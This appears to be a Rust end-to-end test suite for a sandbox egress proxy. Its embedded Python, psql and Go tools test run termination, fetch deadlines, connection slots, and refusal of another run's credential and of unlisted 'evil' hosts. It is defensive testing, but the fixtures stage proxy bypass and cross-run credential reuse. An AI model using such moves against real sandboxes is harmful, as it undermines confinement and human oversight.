            .any(|f| f.reason == "protocol_unknown" && f.mode == "report"),
        "{:#?}",
        reported.facts
    );
    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// The run's bounds on transparent connections: a tool whose clients use no
/// proxy, each mode one invocation (`input.mode`).
const GUARD_PY: &str = r#"
import base64, os, socket, time, urllib.request, urllib.error

for k in list(os.environ):
    if k.lower().endswith("_proxy"):
        del os.environ[k]

DB, WEB, WEB2 = int(os.environ["DB"]), int(os.environ["WEB"]), int(os.environ["WEB2"])

def echo_open():
    s = socket.create_connection(("db.test", DB), timeout=10)
    s.sendall(b"ping\n")
    got = s.recv(100)
    if got != b"ping\n":
        raise RuntimeError(f"no echo: {got!r}")
    return s

def wait_end(s, limit):
    # Blocks until the proxy ends the relay: how, and after how long.
    t0 = time.monotonic()
    s.settimeout(limit)
    try:
        how = "eof" if s.recv(100) == b"" else "data"
    except socket.timeout:
        how = "still open"
    except OSError as e:
        how = "reset"
    return {"how": how, "after_ms": int((time.monotonic() - t0) * 1000)}

def slots():
    a = echo_open()
    b = socket.create_connection(("db.test", DB), timeout=10)
    b.sendall(b"second\n")
    b.settimeout(2)
    try:
        early = b.recv(100).decode()
    except socket.timeout:
        early = "waiting"
    a.close()
    b.settimeout(10)
    try:
        late = b.recv(100).decode()
    except OSError as e:
        late = type(e).__name__
    return {"early": early, "late": late}

def get(url, auth):
    req = urllib.request.Request(url, headers={"Proxy-Authorization": auth})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(req, timeout=10) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "reason": e.headers.get("X-Egress-Deny-Reason")}

def run(input, ctx):
    mode = input["mode"]
    if mode in ("run_end", "deadline"):
        return wait_end(echo_open(), 15)
    if mode == "slots":
        return slots()
    if mode == "credential":
        auth = "Basic " + base64.b64encode(input["credential"].encode()).decode()
        return {
            "listed": get(f"http://web.test:{WEB}/", auth),
            "others": get(f"http://web.test:{WEB2}/", auth),
        }
"#;

/// The proxy's guarantees hold on transparent connections as on CONNECT
/// tunnels: ending the run severs an open raw relay; the fetch deadline
/// cuts one; `max_concurrent_fetches` makes the next connection wait for a
/// slot; and another run's credential sent as `Proxy-Authorization` changes
/// nothing (the namespace is the identity: the request is decided on this
/// run's policy, and the header never reaches the origin), unless that run
/// is bound to its own sandbox's listener: then it is refused
/// (`credential_elsewhere`), as everywhere but there.
#[tokio::test]
async fn run_end_deadline_slots_and_identity_hold_on_transparent_connections() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED run_end_deadline_slots_and_identity_hold_on_transparent_connections: {why}");
        return;
    }
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let web2 = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let (db, db_connections) = egress_e2e::origin::echo_origin("127.0.0.2:0").await;
    let dns = FakeDns::start().await;
    for name in ["web.test", "db.test"] {
        dns.set(name, &["127.0.0.2"]);
    }
    let dir = TempDir::new("transparent-guards");
    dir.write("guard.py", GUARD_PY);
    let runner = python_runner();
    let isolation = strongest_isolation();
    let tool = |id: &str, egress: &str, limits: &str| {
        format!(
            r#"
[tools.{id}]
network = "transparent"
egress = [{egress}]
{limits}

[tools.{id}.process]
command = ["python3", "{runner}", "guard.py"]
env = {{ WEB = "{web}", WEB2 = "{web2}", DB = "{db}" }}
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 30000
"#,
            runner = runner.display(),
            web = web.addr.port(),
            web2 = web2.addr.port(),
            db = db.port(),
        )
    };
    let db_rule = format!("{{ host = \"db.test\", port = {}, protocol = \"tcp\" }}", db.port());
    let tools = [
        tool("hold", &db_rule, "fetch_timeout_ms = 60000"),
        tool("short", &db_rule, "fetch_timeout_ms = 1500"),
        tool("one", &db_rule, "fetch_timeout_ms = 60000\nmax_concurrent_fetches = 1"),
        tool("cred", &format!("\"web.test:{}\"", web.addr.port()), ""),
        // The other run's tool: allowed where `cred` is not.
        format!("\n[tools.other]\negress = [\"web.test:{}\"]\n", web2.addr.port()),
    ]
    .concat();
    let Stack { proxy, exec, control } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    let invoke = |tool: &str, input: Value, run_id: Option<&str>| {
        let exec = exec.clone();
        let req = InvocationRequest {
            run_id: run_id.map(Into::into),
            ..invocation(tool, input)
        };
        tokio::spawn(async move { exec.invoke(req).await })
    };
    let opened = || db_connections.load(std::sync::atomic::Ordering::SeqCst);

    // Run end: once the relay is up, the run is ended from the control API.
    let before = opened();
    let run_id = format!("tp-guard-{}", std::process::id());
    let held = invoke("hold", json!({"mode": "run_end"}), Some(&run_id));
    assert!(
        eventually(Duration::from_secs(20), || opened() > before).await,
        "the relay never reached the origin"
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    let r =
        egress_e2e::harness::control_call(control, "DELETE", &format!("/v1/runs/{run_id}"), None, Some(TOKEN)).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let run_end = held.await.unwrap();
    eprintln!("run end: {:#?}", run_end.output);

    // The deadline: 1.5 s after the connection came in.
    let deadline = invoke("short", json!({"mode": "deadline"}), None).await.unwrap();
    eprintln!("deadline: {:#?}", deadline.output);

    // One slot: the second connection waits until the first is closed.
    let slots = invoke("one", json!({"mode": "slots"}), None).await.unwrap();
    eprintln!("slots: {:#?}", slots.output);

    // Another run's credential, on `cred`'s transparent connections.
    let (other, secret) = egress_e2e::harness::create_run_at(control, "other").await;
    let input = json!({"mode": "credential", "credential": format!("{other}:{secret}")});
    let cred = invoke("cred", input, None).await.unwrap();
    eprintln!("credential: {:#?}", cred.output);

    assert!(run_end.output.is_some(), "{run_end:#?}");
    let out = run_end.output.clone().unwrap();
    assert!(
        out["how"] == json!("eof") || out["how"] == json!("reset"),
        "run end: {out:#}"
    );
    assert!(out["after_ms"].as_u64().unwrap() < 10_000, "run end: {out:#}");

    assert!(deadline.ok, "{deadline:#?}");
    let out = deadline.output.clone().unwrap();
    assert!(
        out["how"] == json!("eof") || out["how"] == json!("reset"),
        "deadline: {out:#}"
    );
    let after = out["after_ms"].as_u64().unwrap();
    assert!((500..10_000).contains(&after), "deadline: {out:#}");

    assert!(slots.ok, "{slots:#?}");
    let out = slots.output.clone().unwrap();
    assert_eq!(out["early"], json!("waiting"), "slots: {out:#}");
    assert_eq!(out["late"], json!("second\n"), "slots: {out:#}");

    assert!(cred.ok, "{cred:#?}");
    let out = cred.output.clone().unwrap();
    // This run's own rule: allowed, as with no header; the header (another
    // run's credential) does not reach the origin.
    assert_eq!(out["listed"]["status"], json!(200), "credential: {out:#}");
    for head in web.heads() {
        assert!(!head.to_ascii_lowercase().contains("proxy-authorization"), "{head}");
        assert!(!head.contains(&secret), "{head}");
    }
    // The other run's rule does not apply here: denied, on this run.
    assert_eq!(out["others"]["status"], json!(403), "credential: {out:#}");
    assert_eq!(out["others"]["reason"], json!("not_allowlisted"), "credential: {out:#}");
    assert_eq!(web2.hits.load(std::sync::atomic::Ordering::SeqCst), 0);
    assert!(
        cred.facts.iter().any(|f| f.reason == "not_allowlisted"
            && f.target
                .as_ref()
                .is_some_and(|t| t.kind == "transparent" && t.port == web2.addr.port())),
        "{:#?}",
        cred.facts
    );
    let r =
        egress_e2e::harness::control_call(control, "GET", &format!("/v1/runs/{other}/facts"), None, Some(TOKEN)).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let v: Value = serde_json::from_slice(&r.body).unwrap();
    assert_eq!(v["facts"], json!([]), "the other run has no facts: {v:#}");

    // A run bound to its own sandbox's listener (a strict child's): its
    // credential is refused on this run's transparent socket too, with a
    // fact on each run, and nothing reaches an origin.
    let r = egress_e2e::harness::control_call(
        control,
        "POST",
        "/v1/runs",
        Some(json!({"tool": "other", "bound": true})),
        Some(TOKEN),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.text());
    let v: Value = serde_json::from_slice(&r.body).unwrap();
    let (bound, secret) = (v["run_id"].as_str().unwrap(), v["secret"].as_str().unwrap());
    let hits = (
        web.hits.load(std::sync::atomic::Ordering::SeqCst),
        web2.hits.load(std::sync::atomic::Ordering::SeqCst),
    );
    let input = json!({"mode": "credential", "credential": format!("{bound}:{secret}")});
    let leaked = invoke("cred", input, None).await.unwrap();
    assert!(leaked.ok, "{leaked:#?}");
    let out = leaked.output.clone().unwrap();
    for case in ["listed", "others"] {
        assert_eq!(out[case]["status"], json!(407), "{case}: {out:#}");
        assert_eq!(out[case]["reason"], json!("credential_elsewhere"), "{case}: {out:#}");
    }
    assert_eq!(
        (
            web.hits.load(std::sync::atomic::Ordering::SeqCst),
            web2.hits.load(std::sync::atomic::Ordering::SeqCst)
        ),
        hits
    );
    // Identical denials may be folded into one fact with a count.
    let elsewhere = |facts: &[egress_api::Fact]| {
        facts
            .iter()
            .filter(|f| f.reason == "credential_elsewhere")
            .map(|f| f.count)
            .sum::<u64>()
    };
    assert_eq!(elsewhere(&leaked.facts), 2, "{:#?}", leaked.facts);
    let r =
        egress_e2e::harness::control_call(control, "GET", &format!("/v1/runs/{bound}/facts"), None, Some(TOKEN)).await;
    let v: Value = serde_json::from_slice(&r.body).unwrap();
    let facts: Vec<egress_api::Fact> = serde_json::from_value(v["facts"].clone()).unwrap();
    assert!(
        elsewhere(&facts) == 2
            && facts
                .iter()
                .all(|f| f.reason == "credential_elsewhere"
                    && f.detail.contains("a transparent socket handed over for run")),
        "{facts:#?}"
    );

    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// `psql` (no proxy support at all) as the tool's client.
const PSQL_PY: &str = r#"
import os, subprocess

def psql(host):
    p = subprocess.run(
        [os.environ["PSQL"], "-X", "-w", "-A", "-t", "-h", host, "-p", os.environ["PGPORT"],
         "-U", "postgres", "-d", "postgres", "-c", "select 1"],
        capture_output=True, timeout=30, env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"),
                                              "PGCONNECT_TIMEOUT": "10", "HOME": "/nonexistent"})
    return {"code": p.returncode, "out": p.stdout.decode().strip(), "err": p.stderr.decode()[-300:]}

def run(input, ctx):
    return {"listed": psql("db.test"), "checked": psql("checked-db.test"), "unlisted": psql("evil-db.test")}
"#;

/// `psql`, an unmodified client that speaks the PostgreSQL protocol, runs
/// `select 1` on a server allowed as `db.test:<port>` with `protocol =
/// "tcp"` (a raw relay through the proxy); to the same server listed
/// without it (`checked-db.test`) it is refused (`protocol_unknown`: its
/// first bytes are neither TLS nor HTTP), and to a name the policy does not
/// list it fails at the name, with a fact, and the upstream DNS is never
/// asked.
#[tokio::test]
async fn psql_reaches_a_listed_database_and_nothing_else() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED psql_reaches_a_listed_database_and_nothing_else: {why}");
        return;
    }
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    // On 127.0.0.2, an address the stack's proxy may dial.
    let Some(pg) = Postgres::start_in(None, "127.0.0.2") else {
        eprintln!("SKIPPED psql_reaches_a_listed_database_and_nothing_else: no PostgreSQL here (see above)");
        return;
    };
    let dns = FakeDns::start().await;
    dns.set("db.test", &["127.0.0.2"]);
    dns.set("checked-db.test", &["127.0.0.2"]);
    dns.set("evil-db.test", &["127.0.0.2"]);
    let dir = TempDir::new("transparent-psql");
    dir.write("psql_tool.py", PSQL_PY);
    let tools = format!(
        r#"
[tools.pg]
network = "transparent"
egress = [{{ host = "db.test", port = {port}, protocol = "tcp" }}, "checked-db.test:{port}"]

[tools.pg.process]
command = ["python3", "{runner}", "psql_tool.py"]
env = {{ PSQL = "{psql}", PGPORT = "{port}" }}
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 60000
"#,
        port = pg.port,
        runner = python_runner().display(),
        psql = Postgres::psql_program().display(),
        isolation = strongest_isolation(),
    );
    let Stack { proxy, exec, .. } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    let res = exec.invoke(invocation("pg", json!({}))).await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    eprintln!("{out:#}");
    assert_eq!(out["listed"]["code"], json!(0), "{out:#}");
    assert_eq!(out["listed"]["out"], json!("1"), "{out:#}");
    assert_ne!(out["checked"]["code"], json!(0), "{out:#}");
    assert!(
        res.facts.iter().any(|f| f.reason == "protocol_unknown"
            && f.target
                .as_ref()
                .is_some_and(|t| t.kind == "transparent" && t.host == "checked-db.test")),
        "{:#?}",
        res.facts
    );
    assert_ne!(out["unlisted"]["code"], json!(0), "{out:#}");
    assert!(
        out["unlisted"]["err"]
            .as_str()
            .unwrap_or_default()
            .contains("evil-db.test"),
        "{out:#}"
    );
    assert_denied_at_dns(&res.facts, &dns, "evil-db.test");
    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// A Go HTTP client with its own transport and no proxy (`Proxy: nil`),
/// resolving with Go's own resolver (built with `-tags netgo`, which reads
/// `/etc/resolv.conf` and asks the nameserver itself). A plain tool: it
/// reads its input line, then fetches each URL it was given and prints one
/// line per URL.
const GO_CLIENT: &str = r#"package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"
)

func main() {
	bufio.NewReader(os.Stdin).ReadString('\n')
	resolver := &net.Resolver{PreferGo: true}
	dialer := &net.Dialer{Timeout: 10 * time.Second, Resolver: resolver}
	client := &http.Client{
		Transport: &http.Transport{Proxy: nil, DialContext: dialer.DialContext},
		Timeout:   15 * time.Second,
	}
	for _, url := range os.Args[1:] {
		out := map[string]interface{}{"url": url}
		resp, err := client.Get(url)
		if err != nil {
			out["error"] = err.Error()
		} else {
			body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
			resp.Body.Close()
			out["status"] = resp.StatusCode
			out["body"] = string(body)
		}
		line, _ := json.Marshal(out)
		fmt.Println(string(line))
	}
}
"#;

/// Builds [`GO_CLIENT`] into `dir`; `Err` says why not. Go's build cache
/// and GOPATH are in one directory under the system's temp dir, kept across
/// runs: the first build compiles `net/http` with `netgo` (tens of seconds
/// on a small machine), later ones take about a second.
fn build_go_client(dir: &std::path::Path) -> Result<PathBuf, String> {
    let go = which("go").ok_or("no go toolchain (apt-get install golang-go)")?;
    std::fs::write(dir.join("main.go"), GO_CLIENT).map_err(|e| e.to_string())?;
    let bin = dir.join("goclient");
    let out = Command::new(go)
        .current_dir(dir)
        .args(["build", "-tags", "netgo", "-trimpath", "-o"])
        .arg(&bin)
        .arg("main.go")
        .env("CGO_ENABLED", "0")
        .env("GOCACHE", std::env::temp_dir().join("loom-egress-test-go/cache"))
        .env("GOPATH", std::env::temp_dir().join("loom-egress-test-go/path"))
        .env("GOPROXY", "off")
        .env("GO111MODULE", "off")
        .output()
        .map_err(|e| e.to_string())?;
    if !out.status.success() {
        return Err(format!("go build failed: {}", String::from_utf8_lossy(&out.stderr)));
    }
    Ok(bin)
}

/// A Go client (pure-Go resolver, its own transport, no proxy) reaches a
/// listed name over HTTP; an unlisted name does not resolve (a fact, no
/// upstream query).
#[tokio::test]
async fn a_go_client_reaches_a_listed_name_and_nothing_else() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED a_go_client_reaches_a_listed_name_and_nothing_else: {why}");
        return;
    }
    let dir = TempDir::new("transparent-go");
    let started = std::time::Instant::now();
    let bin = match build_go_client(dir.path()) {
        Ok(b) => b,
        Err(why) => {
            eprintln!("SKIPPED a_go_client_reaches_a_listed_name_and_nothing_else: {why}");
            return;
        }
    };
    eprintln!("go client built in {:?}", started.elapsed());
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let dns = FakeDns::start().await;
    dns.set("web.test", &["127.0.0.2"]);
    dns.set("evil.test", &["127.0.0.2"]);
    let port = web.addr.port();
    let tools = format!(
        r#"
[tools.go]
network = "transparent"
egress = ["web.test:{port}"]

[tools.go.process]
command = ["{bin}", "http://web.test:{port}/", "http://evil.test:{port}/"]
protocol = "plain"
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 60000
"#,
        bin = bin.display(),
        isolation = strongest_isolation(),
    );
    let Stack { proxy, exec, .. } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    let res = exec.invoke(invocation("go", json!({}))).await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    eprintln!("{out:#}");
    let lines: Vec<Value> = out["stdout"]
        .as_str()
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2, "{out:#}");
    assert_eq!(lines[0]["status"], json!(200), "{out:#}");
    assert_eq!(lines[0]["body"], json!("hello from origin"), "{out:#}");
    assert!(
        lines[1]["error"].as_str().is_some_and(|e| e.contains("no such host")),
        "{out:#}"
    );
    assert_denied_at_dns(&res.facts, &dns, "evil.test");
    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// `name` was refused at the sandbox's DNS: a `not_allowlisted` fact of
/// kind `dns` names it, and the upstream DNS was never asked for it.
fn assert_denied_at_dns(facts: &[egress_api::Fact], dns: &FakeDns, name: &str) {
    assert!(
        facts
            .iter()
            .any(|f| f.reason == "not_allowlisted"
                && f.target.as_ref().is_some_and(|t| t.kind == "dns" && t.host == name)),
        "{facts:#?}"
    );
    assert!(!dns.queries().iter().any(|q| q.contains(name)), "{:?}", dns.queries());
}
